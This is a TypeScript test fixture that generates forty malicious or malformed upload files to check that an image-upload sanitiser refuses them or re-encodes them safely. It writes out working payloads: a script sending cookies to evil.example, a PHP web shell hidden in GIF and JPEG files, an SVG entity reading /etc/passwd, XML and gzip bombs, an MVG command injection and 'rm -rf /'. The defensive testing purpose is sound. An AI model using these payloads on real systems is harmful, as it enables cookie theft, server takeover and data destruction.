import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** What becomes of a file: refused, or written anew as a harmless JPEG. */
type Fate = 'UPLOAD_UNREADABLE' | 'UPLOAD_TOO_LARGE' | 'harmless';

export interface HostileFile {
  what: string;
  bytes: Uint8Array;
  fate: Fate;
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const scene = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 90, b: 60 } } });

const crcTable = Array.from({ length: 256 }, (_, index) => {
  let value = index;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});
const crcOf = (bytes: Uint8Array): number =>
  (bytes.reduce((crc, byte) => (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const chunk = (type: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([text(type), data]);
  return Buffer.concat([u32(data.length), body, u32(crcOf(body))]);
};
/** A small PNG file that says to be of this size. */
const pngOf = (
  width: number,
  height: number,
  rows = deflateSync(Buffer.alloc(Math.min(height, 4_000) * Math.ceil(width / 8 + 1))),
) =>
  Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])])),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);

/** Forty files of people who mean harm, or do not know what is in their photographs. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await scene(640, 480).jpeg().toBuffer();
  const png = await scene(320, 200).png().toBuffer();
  const webp = await scene(320, 200).webp().toBuffer();
  const avif = await scene(64, 48).avif({ effort: 0 }).toBuffer();
  const withPosition = await scene(400, 300)
    .withExif({
      IFD0: { Artist: 'Ragnhild', Copyright: SCRIPT },
      IFD3: { GPSLatitude: '59/1 20/1 0/1', GPSLatitudeRef: 'N' },
    })
    .jpeg()
    .toBuffer();
  const onItsSide = await scene(400, 200).withMetadata({ orientation: 6 }).jpeg().toBuffer();
  const gif = await scene(20, 20).gif().toBuffer();
  const tiff = await scene(20, 20).tiff().toBuffer();
  const profile = await scene(100, 100)
    .withIccProfile('p3')
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT}</x:xmpmeta>`)
    .jpeg()
    .toBuffer();
  const refused = (what: string, bytes: Uint8Array): HostileFile => ({ what, bytes, fate: 'UPLOAD_UNREADABLE' });
  const tamed = (what: string, bytes: Uint8Array): HostileFile => ({ what, bytes, fate: 'harmless' });
  const after = (start: Uint8Array, more: string) => Buffer.concat([start, text(more)]);
  return [
    refused('nothing', Buffer.alloc(0)),
    refused('one byte', Buffer.from([0xff])),
    refused('zeros', Buffer.alloc(100_000)),
    refused('a page', text(`<!doctype html><html>${SCRIPT}</html>`)),
    refused('an SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)),
    refused(
      'an SVG that reads a file',
      text(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
    ),
    refused(
      'an XML bomb',
      text(
        `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "${'x'.repeat(1_000)}"><!ENTITY b "${'&a;'.repeat(1_000)}">]><svg>&b;</svg>`,
      ),
    ),
    refused('a PDF', text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')),
    refused('a PostScript program', text('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file')),
    refused('an archive', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(4_000)])),
    refused(
      'a compressed bomb',
      Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), deflateSync(Buffer.alloc(5_000_000))]),
    ),
    refused('a Windows program', Buffer.concat([text('MZ'), Buffer.alloc(3_000)])),
    refused('a Linux program', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(3_000)])),
    refused('a shell script', text('#!/bin/sh\nrm -rf /\n')),
    refused('a PHP program behind the head of a GIF', text('GIF89a<?php system($_GET["c"]); ?>')),
    refused('a real GIF', gif),
    refused('a TIFF', tiff),
    refused('a bitmap', Buffer.concat([text('BM'), Buffer.alloc(2_000)])),
    refused('an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 255, 255]), Buffer.alloc(500)])),
    refused('a film', Buffer.concat([u32(24), text('ftypisom'), Buffer.alloc(3_000)])),
    refused(
      'a photograph in HEIC',
      Buffer.concat([u32(24), text('ftypheic'), u32(0), text('mif1heic'), Buffer.alloc(3_000)]),
    ),
    refused('a font', Buffer.concat([text('wOF2'), Buffer.alloc(1_000)])),
    refused(
      'an MVG that runs a command',
      text('push graphic-context\nfill \'url(https://x.example/a.jpg"|ls "-la)\'\npop graphic-context'),
    ),
    refused('the head of a JPEG and a page', after(jpeg.subarray(0, 20), SCRIPT)),
    refused('the head of a PNG and a page', after(png.subarray(0, 8), `<html>${SCRIPT}`)),
    refused('the head of a WebP and a page', after(text('RIFF\u0010\u0000\u0000\u0000WEBPVP8 '), SCRIPT)),
    refused('a JPEG that is cut off', jpeg.subarray(0, 200)),
    refused('a PNG that is cut off', png.subarray(0, 60)),
    refused('an AVIF that is cut off', avif.subarray(0, 40)),
    refused('a PNG of 60 000 by 60 000 pixels', pngOf(60_000, 60_000)),
    refused(
      'a PNG of the largest size that can be written',
      pngOf(0x7fffffff, 0x7fffffff, deflateSync(Buffer.alloc(10))),
    ),
    refused('a PNG without rows', pngOf(1_000, 1_000, deflateSync(Buffer.alloc(0)))),
    tamed('a JPEG with a page after its end', after(jpeg, `<html>${SCRIPT}</html>`)),
    tamed('a JPEG with an archive after its end', after(jpeg, `PK\u0003\u0004${'evil.exe'.repeat(400)}`)),
    tamed(
      'a JPEG with a PHP program as its comment',
      Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, 36]),
        text('<?php system($_GET["c"]);/*....*/ ?>').subarray(0, 34),
        jpeg.subarray(2),
      ]),
    ),
    tamed('a JPEG with name, script and position in its metadata', withPosition),
    tamed('a JPEG with a colour profile and a script in XMP', profile),
    tamed('a JPEG that lies on its side', onItsSide),
    tamed(
      'a PNG with a script in a text chunk',
      Buffer.concat([png.subarray(0, 33), chunk('tEXt', text(`Comment\u0000${SCRIPT}`)), png.subarray(33)]),
    ),
    tamed('a WebP with a page after its end', after(webp, SCRIPT)),
    { what: 'zeros of 200 MB behind the head of a JPEG', bytes: jpeg, fate: 'UPLOAD_TOO_LARGE' },
  ];
}
